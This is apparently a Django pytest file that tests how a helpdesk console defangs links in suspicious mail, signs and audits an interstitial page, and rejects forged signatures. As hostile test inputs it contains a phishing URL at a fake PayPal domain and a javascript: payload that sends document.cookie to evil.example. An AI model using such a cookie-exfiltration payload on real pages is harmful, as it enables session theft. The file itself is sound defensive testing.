"""Links in mail the gateway found suspicious: defanged in the conversation, the real
target on hover, and an interstitial page (signed, audited with the host only) before
anything is opened. Other messages render as they always have."""

from __future__ import annotations

import re
from html import unescape
from urllib.parse import parse_qs, urlencode, urlsplit

import pytest
from django.template.defaultfilters import linebreaksbr
from django.utils.html import escape

from suspicious_mail import mail_ticket
from trustdesk.audit.models import AuditEvent

pytestmark = pytest.mark.django_db
TARGET = "https://paypal-secure.example/login?session=7f3a"
BODY = f"Your account is locked.\nSign in at {TARGET} within 24 hours.\nPayPal Support"
WARNING = ("This link was in a message the gateway found suspicious. Do not sign in or "
           "enter anything on the page it opens.")
_BODY_DIV = re.compile(r'<div class="body">(.*?)</div>', re.S)
_ANCHOR = re.compile(r'<a class="defanged" href="([^"]+)" title="([^"]+)"[^>]*>([^<]+)</a>')


def _body_html(response) -> str:
    assert response.status_code == 200
    (body,) = _BODY_DIV.findall(response.content.decode())
    return body


def _links(body_html: str) -> list[tuple[str, str, str]]:
    return [tuple(unescape(x) for x in m) for m in _ANCHOR.findall(body_html)]


@pytest.mark.parametrize("verdict", ["suspicious", "phishing"])
def test_a_suspicious_message_shows_its_links_defanged(agent_client, customer, team, verdict):
    ticket = mail_ticket(customer, body=BODY, verdict=verdict, team=team)
    body = _body_html(agent_client.get(f"/tickets/{ticket.pk}/"))
    (href, title, text), = _links(body)
    assert text == "hxxps://paypal-secure[.]example/login?session=7f3a"
    assert title == TARGET  # the real target, on hover
    # The only link is to the interstitial: the raw URL is in the title attribute only.
    assert re.findall(r'href="([^"]*)"', body) == [escape(href)]
    assert urlsplit(href).path == "/links/"
    assert parse_qs(urlsplit(href).query)["to"] == [TARGET]
    assert body.count(escape(TARGET)) == 1 and f'title="{escape(TARGET)}"' in body
    assert "Your account is locked.<br>Sign in at " in body


@pytest.mark.parametrize("verdict", ["clean", "spam", None])
def test_other_messages_render_exactly_as_before(agent_client, customer, team, verdict):
    ticket = mail_ticket(customer, body=BODY, verdict=verdict, team=team)
    body = _body_html(agent_client.get(f"/tickets/{ticket.pk}/"))
    # linebreaksbr of the escaped text, as the template always rendered it: no link.
    assert body == linebreaksbr(BODY)
    assert "<a" not in body and "hxxp" not in body and TARGET in body


def test_the_interstitial_warns_shows_the_target_and_records_the_host(agent_client, agent,
                                                                      customer, team):
    ticket = mail_ticket(customer, body=BODY, team=team)
    (href, _, _), = _links(_body_html(agent_client.get(f"/tickets/{ticket.pk}/")))
    response = agent_client.get(href)
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
    page = unescape(response.content.decode())
    assert WARNING in page
    assert "hxxps://paypal-secure[.]example/login?session=7f3a" in page
    assert f'<code class="link-target" data-link-target>{TARGET}</code>' in page
    assert "<strong>paypal-secure.example</strong>" in page
    (opener,) = re.findall(r"<a [^>]*data-open-anyway[^>]*>", page)
    assert f'href="{TARGET}"' in opener
    assert 'rel="noopener noreferrer"' in opener and 'target="_blank"' in opener
    assert 'referrerpolicy="no-referrer"' in opener
    assert f'href="/tickets/{ticket.pk}/"' in page  # back to the ticket
    event = AuditEvent.objects.get(action="mail.link.view")
    assert event.actor_label == agent.email and event.object_id == str(ticket.pk)
    assert event.context == {"host": "paypal-secure.example", "scheme": "https"}
    assert "session=7f3a" not in event.body.decode("utf-8", "replace")


def _sig_query(href: str) -> dict[str, str]:
    return {k: v[0] for k, v in parse_qs(urlsplit(href).query).items()}


def test_a_forged_missing_or_moved_signature_is_not_found(agent_client, customer, team,
                                                         make_ticket):
    ticket = mail_ticket(customer, body=BODY, team=team)
    (href, _, _), = _links(_body_html(agent_client.get(f"/tickets/{ticket.pk}/")))
    good = _sig_query(href)
    other = make_ticket(customer, team=team)
    tries = [
        {**good, "to": "https://evil.example/"},  # another target under this signature
        {**good, "sig": "0" * len(good["sig"])},
        {**good, "sig": good["sig"][:-1]},
        {**good, "sig": "é" * len(good["sig"])},  # not even ASCII
        {k: v for k, v in good.items() if k != "sig"},
        {**good, "ticket": str(other.pk)},  # the signature binds the ticket
        {**good, "ticket": "x"},
        {},
    ]
    for query in tries:
        response = agent_client.get(f"/links/?{urlencode(query)}")
        assert response.status_code == 404, query
        assert "evil.example" not in response.content.decode()
    assert not AuditEvent.objects.filter(action="mail.link.view").exists()
    assert agent_client.get(f"/links/?{urlencode(good)}").status_code == 200


def test_the_interstitial_is_for_those_who_see_the_ticket(console_client, make_user,
                                                         make_team, agent_client, customer,
                                                         team):
    ticket = mail_ticket(customer, body=BODY, team=team)
    (href, _, _), = _links(_body_html(agent_client.get(f"/tickets/{ticket.pk}/")))
    outsider = console_client(make_user("agent", teams=[make_team("Elsewhere")]))
    assert outsider.get(href).status_code == 404
    officer = console_client(make_user("security_officer"))
    assert officer.get(href).status_code == 403  # no ticket.view at all
    anonymous = agent_client.__class__()
    response = anonymous.get(href)
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


def test_a_script_or_data_target_is_shown_but_never_linked(agent_client, customer, team):
    body = "Open the form (javascript:location='https://evil.example/'+document.cookie) now"
    ticket = mail_ticket(customer, body=body, team=team)
    (href, title, text), = _links(_body_html(agent_client.get(f"/tickets/{ticket.pk}/")))
    assert text.startswith("javascript[:]location=")
    assert title == "javascript:location='https://evil.example/'+document.cookie"
    response = agent_client.get(href)
    page = response.content.decode()
    assert response.status_code == 200 and WARNING in unescape(page)
    assert "data-open-anyway" not in page and "data-not-openable" in page
    assert 'href="javascript' not in page.lower()
    assert escape(title) in page  # shown in clear, as text


def test_values_in_a_suspicious_message_are_still_withheld(agent_client, customer, team):
    body = f"Pay the invoice at {TARGET} with card 4111 1111 1111 1111 today."
    ticket = mail_ticket(customer, body=body, team=team)
    page = _body_html(agent_client.get(f"/tickets/{ticket.pk}/"))
    assert "4111 1111 1111 1111" not in page
    assert '<span class="token">[card number withheld]</span> today.' in page
    assert len(_links(page)) == 1


def test_a_malformed_address_is_shown_and_not_opened(agent_client, customer, team):
    ticket = mail_ticket(customer, body="Log in: http://[::1/admin now", team=team)
    (href, title, _), = _links(_body_html(agent_client.get(f"/tickets/{ticket.pk}/")))
    assert title == "http://[::1/admin"
    response = agent_client.get(href)
    assert response.status_code == 200
    page = response.content.decode()
    assert "data-open-anyway" not in page and "This address is malformed" in page
